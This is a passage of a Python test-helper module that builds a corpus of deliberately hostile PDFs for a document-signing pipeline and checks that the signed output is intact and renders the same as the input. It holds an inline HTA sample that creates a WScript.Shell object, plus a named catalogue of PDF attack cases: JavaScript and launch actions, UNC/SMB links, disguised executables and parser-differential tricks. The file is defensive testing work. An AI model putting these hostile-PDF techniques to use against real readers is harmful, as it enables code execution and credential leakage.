        R("embedded_page_is_hta", ACTIVE, _bytes(_embedded(
            b"receipt.html", b"<html><head><title>r</title><HTA:APPLICATION ID='r'></head>"
            b"<body><script>new ActiveXObject('WScript.Shell')</script></body></html>")),
          reason="executable_attachment"),
        R("allowed_reportlab_plain", SIGNED, lambda o: _copy_good(good, "reportlab_plain", o),
          markers=DAMAGE_SOURCES["reportlab_plain"][0]),
        # budgets
        R("budget_40_streams_of_8mib", LIMIT, _many_big_streams,
          limits={"max_decoded_stream_bytes": 16 << 20, "max_decoded_bytes": 64 << 20}),
        # control: 7 of the same streams (56 MiB) fit that budget
        R("budget_7_streams_of_8mib", SIGNED, lambda o: _many_big_streams(o, 7),
          markers=("MANY BIG STREAMS",),
          limits={"max_decoded_stream_bytes": 16 << 20, "max_decoded_bytes": 64 << 20}),
        # the same budget, the streams being images drawn on the page
        R("budget_40_images_of_8mib", LIMIT, lambda o: _many_big_streams(o, 40, "image"),
          limits={"max_decoded_stream_bytes": 16 << 20, "max_decoded_bytes": 64 << 20}),
    ]
    return recipes


def _copy_good(good: dict[str, Path], name: str, out: Path) -> None:
    if name not in good or not good[name].exists():
        raise Missing(f"{name} is not in the good corpus")
    shutil.copyfile(good[name], out)


def _names() -> tuple[str, ...]:
    return tuple(r.name for r in _hostile_recipes(Path(".")))


# Every name the builders may produce, for parametrization at collection time
# (tests check it against the builders).
HOSTILE_NAMES: tuple[str, ...] = (
    "dup_key_contents", "dup_key_same_value", "xref_wrong_object_header",
    "object_defined_twice", "object_defined_twice_xref_damaged", "html_prefix",
    "html_prefix_absolute_offsets", "junk_prefix_200", "zip_polyglot",
    "stream_length_short", "page_count_mismatch",
    *(f"{d}_{s}" for s in DAMAGE_SOURCES for d in DAMAGES),
    "random_bytes", "no_objects",
    "encrypted_rc4_40", "encrypted_rc4_128", "encrypted_aes_128", "encrypted_aes_256",
    "encrypted_aes_256_r5", "encrypted_owner_only", "encrypted_pubsec", "encrypted_and_damaged",
    "openaction_uri", "page_aa_uri", "openaction_gotoe", "link_uri", "link_file_uri",
    "link_unc", "link_smb", "link_javascript_uri", "link_data_uri", "submitform_unc",
    "page_aa_gotor_unc", "gotoe", "hide", "set_ocg_state",
    "submitform_widget", "import_data", "rendition", "unknown_action", "named_print",
    "next_chain_js", "javascript_escaped_name", "annot_3d_oninstantiate", "richmedia",
    "names_javascript", "outline_launch", "objstm_javascript", "pdflatex_hyperref_uri",
    "field_aa_keystroke_js",
    "embedded_pdf_with_js", "embedded_name_exe_dot", "embedded_name_exe_space",
    "embedded_name_docm", "embedded_name_iso", "embedded_name_hta", "embedded_name_js",
    "embedded_txt_is_pe", "embedded_txt_is_elf",
    "allowed_goto_and_named", "allowed_embedded_notes_txt", "allowed_embedded_receipt_html",
    "embedded_page_is_hta", "allowed_reportlab_plain",
    "budget_40_streams_of_8mib", "budget_7_streams_of_8mib", "budget_40_images_of_8mib",
)

# What each differential entry is claimed to be, as a check on the file. "readers"
# claims were verified to hold for pypdf 6.21, poppler 22.12 and libqpdf 12.4
# (pikepdf), and MuPDF 1.21 reads them as poppler and qpdf do (so the first two are
# signed as those three show them; the third is refused, qpdf's rewrite having both
# pages); "latent" ones are only structural: these readers agree on them (they check
# object headers, and follow a sound xref to the first definition), but a reader
# trusting the xref blindly, or a rebuild, shows the other text.
DIFFERENTIAL_CLAIMS: dict[str, str] = {
    "dup_key_contents": "readers",        # pypdf: FIRST; poppler, qpdf, MuPDF: SECOND
    "object_defined_twice_xref_damaged": "readers",  # pypdf: FIRST; the others: SECOND
    "page_count_mismatch": "readers",     # pypdf: 2 pages; poppler, qpdf --show-npages: 1
    "xref_wrong_object_header": "latent",  # all three show OBJECT FIVE
    "object_defined_twice": "latent",      # all three show FIRST DEFINITION
    "stream_length_short": "latent",       # all three recover the whole stream
}


# --- building and caching ------------------------------------------------------------

_CACHE: dict[Path, dict[str, Hostile]] = {}


def build_hostile_corpus(dest: Path, good: dict[str, Path]) -> dict[str, Hostile]:
    """Build (once per ``dest``) every entry that can be built here; name -> entry."""
    dest = dest.resolve()
    if dest in _CACHE:
        return _CACHE[dest]
    dest.mkdir(parents=True, exist_ok=True)
    manifest = dest / "hostile.json"
    if manifest.exists():
        raw = json.loads(manifest.read_text())
    else:
        raw = {"built": {}, "missing": {}}
        for r in _hostile_recipes(dest, good):
            if r.tool is not None and shutil.which(r.tool) is None:
                raw["missing"][r.name] = f"{r.tool} not installed"
                continue
            out = dest / f"{r.name}.pdf"
            try:
                r.build(out)
            except (Missing, subprocess.SubprocessError, OSError) as e:
                raw["missing"][r.name] = f"{type(e).__name__}: {e}"[:500]
                out.unlink(missing_ok=True)
                continue
            entry = Hostile(r.name, out, r.expect, r.never, r.markers, r.exact_text, r.limits,
                            r.reason)
            d = asdict(entry)
            d["path"] = str(out)
            raw["built"][r.name] = d
        manifest.write_text(json.dumps(raw, indent=1))
    built = {}
    for name, d in raw["built"].items():
        d = dict(d, path=Path(d["path"]), markers=tuple(d["markers"]))
        built[name] = Hostile(**d)
    _CACHE[dest] = built
    return built


def hostile_missing(dest: Path) -> dict[str, str]:
    manifest = dest.resolve() / "hostile.json"
    return json.loads(manifest.read_text())["missing"] if manifest.exists() else {}


@pytest.fixture(scope="session")
def hostile_corpus(tmp_path_factory: pytest.TempPathFactory,
                   good_corpus: dict[str, Path]) -> dict[str, Hostile]:
    """Session fixture (import it together with helpers_corpus.good_corpus)."""
    return build_hostile_corpus(tmp_path_factory.mktemp("hostile_corpus"), good_corpus)


# --- what readers see ------------------------------------------------------------------


def words(text: str) -> list[str]:
    return text.split()


def pdftotext_pages(path: Path) -> list[str]:
    """poppler's text of every page (form feed separated)."""
    proc = subprocess.run(["pdftotext", "-q", "-enc", "UTF-8", str(path), "-"],
                          capture_output=True, timeout=TOOL_TIMEOUT_S)
    pages = proc.stdout.decode("utf-8", "replace").split("\f")
    return pages[:-1] if pages and not pages[-1].strip() else pages


def pdfinfo_pages(path: Path) -> int | None:
    proc = subprocess.run(["pdfinfo", str(path)], capture_output=True, timeout=TOOL_TIMEOUT_S,
                          env={**os.environ, "LC_ALL": "C"})
    m = re.search(rb"^Pages:\s+(\d+)", proc.stdout, re.M)
    return int(m.group(1)) if m else None


def qpdf_check(path: Path) -> tuple[int, str]:
    proc = subprocess.run(["qpdf", "--check", str(path)], capture_output=True,
                          timeout=TOOL_TIMEOUT_S)
    return proc.returncode, (proc.stdout + proc.stderr).decode(errors="replace")


def qpdf_pages(path: Path) -> int | None:
    proc = subprocess.run(["qpdf", "--show-npages", str(path)], capture_output=True,
                          timeout=TOOL_TIMEOUT_S)
    try:
        return int(proc.stdout.split()[0])
    except (IndexError, ValueError):
        return None


def pypdf_view(path: Path) -> tuple[int, list[str]]:
    """(page count, text of each page) as pypdf (non-strict) reads ``path``."""
    from pypdf import PdfReader

    # (pypdf's logger is left alone: casesignd.pdf.inspect reads pypdf's warnings.)
    with open(path, "rb") as f:
        reader = PdfReader(f, strict=False)
        n = len(reader.pages)
        return n, [reader.pages[i].extract_text() or "" for i in range(n)]


def qpdf_text(path: Path) -> str:
    """The decoded content streams qpdf (pikepdf) gives for every page, joined: a third
    opinion on what is shown, from the reader the normalizer is built on."""
    import pikepdf

    out = []
    with pikepdf.open(path, suppress_warnings=True, attempt_recovery=True) as pdf:
        for page in pdf.pages:
            try:
                out.append(page.obj.Contents.read_bytes().decode("latin-1")
                           if isinstance(page.obj.Contents, pikepdf.Stream)
                           else b"".join(c.read_bytes() for c in page.obj.Contents).decode("latin-1"))
            except Exception as e:  # noqa: BLE001 - reported as the view
                out.append(f"<{type(e).__name__}>")
    return "\n".join(out)


def mupdf_text(path: Path) -> str:
    """MuPDF's text of every page (``mutool draw -F txt``); "" when it cannot read it."""
    proc = subprocess.run(["mutool", "draw", "-q", "-F", "txt", "-o", "-", str(path)],
                          capture_output=True, timeout=TOOL_TIMEOUT_S)
    return proc.stdout.decode("utf-8", "replace") if proc.returncode == 0 else ""


@dataclass
class ReaderViews:
    pypdf_pages: int | None
    pypdf_text: str
    poppler_pages: int | None
    poppler_text: str
    qpdf_pages: int | None
    qpdf_content: str
    mupdf_text: str = ""

    def shows(self, marker: str) -> dict[str, bool]:
        return {"pypdf": marker in self.pypdf_text, "poppler": marker in self.poppler_text,
                "qpdf": marker in self.qpdf_content, "mupdf": marker in self.mupdf_text}


def reader_views(path: Path) -> ReaderViews:
    try:
        n, texts = pypdf_view(path)
        ptext: str = " ".join(texts)
    except Exception as e:  # noqa: BLE001
        n, ptext = None, f"<{type(e).__name__}: {e}>"
    try:
        qtext = qpdf_text(path)
    except Exception as e:  # noqa: BLE001
        qtext = f"<{type(e).__name__}: {e}>"
    return ReaderViews(n, " ".join(words(ptext)), pdfinfo_pages(path),
                       " ".join(words(" ".join(pdftotext_pages(path)))), qpdf_pages(path),
                       qtext, " ".join(words(mupdf_text(path))))


def drawn_pages(path: Path, engine: str, dpi: int = 72) -> list[object]:
    """Every page of ``path`` as ``engine`` ("poppler" or "mupdf") draws it, in gray, as
    Pillow images; at a higher resolution than the pipeline's own check, so that the
    test does not share its blind spots."""
    import tempfile

    from PIL import Image

    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp)
        if engine == "poppler":
            cmd = ["pdftoppm", "-q", "-r", str(dpi), "-gray", str(path), str(out / "p")]
        else:
            cmd = ["mutool", "draw", "-q", "-r", str(dpi), "-c", "gray", "-o",
                   str(out / "p%d.pgm"), str(path)]
        proc = subprocess.run(cmd, capture_output=True, timeout=TOOL_TIMEOUT_S)
        assert proc.returncode == 0, (engine, path.name, proc.stderr[-500:])
        files = sorted(out.iterdir(), key=lambda p: int("".join(filter(str.isdigit, p.stem))))
        pages = []
        for f in files:
            with Image.open(f) as image:
                pages.append(image.convert("L").copy())
        return pages


def assert_drawn_alike(received: Path, signed: Path, engines: tuple[str, ...] = ("poppler", "mupdf")
                       ) -> None:
    """Each engine draws every page of the signed document exactly as it draws the
    received one (same page count, same pixels): what was signed is what a viewer of
    the received file showed."""
    from PIL import ImageChops

    for engine in engines:
        a, b = drawn_pages(received, engine), drawn_pages(signed, engine)
        assert len(a) == len(b), (engine, len(a), len(b))
        for number, (x, y) in enumerate(zip(a, b, strict=True), start=1):
            assert x.size == y.size, (engine, number, x.size, y.size)  # type: ignore[attr-defined]
            box = ImageChops.difference(x, y).getbbox()  # type: ignore[arg-type]
            assert box is None, f"{engine} draws page {number} of the signed document " \
                                f"otherwise than the received one (at {box})"


# --- signed results ------------------------------------------------------------------


def sha256_file(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def assert_signed_and_readable(path: Path, ca_cert: object, nssdir: Path | None, *,
                               markers: tuple[str, ...] = (), exact_text: bool = True,
                               signatures: int = 1) -> int:
    """The last signature is intact, valid and trusted for pyHanko and pdfsig; qpdf
    finds no damage; qpdf, poppler and pypdf count the same pages and show the same
    words (or at least ``markers``). Returns the page count."""
    from pyhanko.sign.validation.status import SignatureCoverageLevel

    from tests.helpers_pki import pdfsig, pyhanko_statuses

    # The readers first: a rewrite that lost content is the worse news.
    rc, out = qpdf_check(path)
    assert rc == 0, out  # 0: no errors or warnings
    pages = pdfinfo_pages(path)
    n, texts = pypdf_view(path)
    assert pages is not None and pages >= 1
    assert qpdf_pages(path) == pages == n, (qpdf_pages(path), pages, n)
    poppler = pdftotext_pages(path)
    ours = " ".join(words(" ".join(texts)))
    theirs = " ".join(words(" ".join(poppler)))
    for marker in markers:
        assert marker in ours, f"pypdf does not show {marker!r}: {ours[:300]!r}"
        assert marker in theirs, f"pdftotext does not show {marker!r}: {theirs[:300]!r}"
    if exact_text:
        assert words(ours) == words(theirs), (ours[:500], theirs[:500])

    try:
        statuses = pyhanko_statuses(path, [ca_cert])  # type: ignore[list-item]
    except Exception as e:  # noqa: BLE001 - the message says which
        raise AssertionError(f"pyHanko cannot read the signed file: {type(e).__name__}: {e}") from e
    assert len(statuses) == signatures, statuses
    last = statuses[-1]
    assert last.intact and last.valid and last.trusted, last.pretty_print_details()
    assert last.coverage == SignatureCoverageLevel.ENTIRE_FILE
    assert all(s.intact and s.valid for s in statuses)
    report = pdfsig(path, nssdir)
    assert report.count("Signature is Valid") == len(statuses), report
    if nssdir is not None:
        assert report.rstrip().endswith("Certificate is Trusted."), report
    return pages
